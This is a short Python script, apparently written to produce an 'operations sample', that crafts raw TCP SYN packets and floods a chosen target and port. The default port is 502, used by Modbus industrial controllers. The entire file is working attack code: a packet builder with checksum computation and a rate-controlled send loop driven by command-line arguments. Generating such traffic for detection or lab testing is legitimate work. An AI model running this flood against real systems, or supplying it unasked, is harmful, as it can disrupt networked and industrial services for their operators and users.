"""A SYN flood from this host's own address (raw socket; needs root), for the operations
sample: ``python syn_flood.py TARGET --port 502 --count 1000 --seconds 1``. Each SYN has
its own source port, as a flood of one-shot connection attempts does."""

from __future__ import annotations

import argparse
import random
import socket
import struct
import time


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def syn(src: str, dst: str, sport: int, dport: int) -> bytes:
    s, d = socket.inet_aton(src), socket.inet_aton(dst)
    tcp = struct.pack("!HHIIBBHHH", sport, dport, random.getrandbits(32), 0, 5 << 4, 0x02,
                      64240, 0, 0)
    pseudo = s + d + struct.pack("!BBH", 0, 6, 20)
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, random.getrandbits(16), 0, 64, 6, 0, s, d)
    return ip + tcp  # the kernel fills the IP checksum


def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("target")
    ap.add_argument("--port", type=int, default=502)
    ap.add_argument("--count", type=int, default=1000)
    ap.add_argument("--seconds", type=float, default=1.0)
    args = ap.parse_args()
    probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    probe.connect((args.target, args.port))  # which address of ours reaches the target
    src = probe.getsockname()[0]
    probe.close()
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    gap = args.seconds / args.count
    for i in range(args.count):
        raw.sendto(syn(src, args.target, 20000 + i, args.port), (args.target, 0))
        time.sleep(gap)


if __name__ == "__main__":
    main()
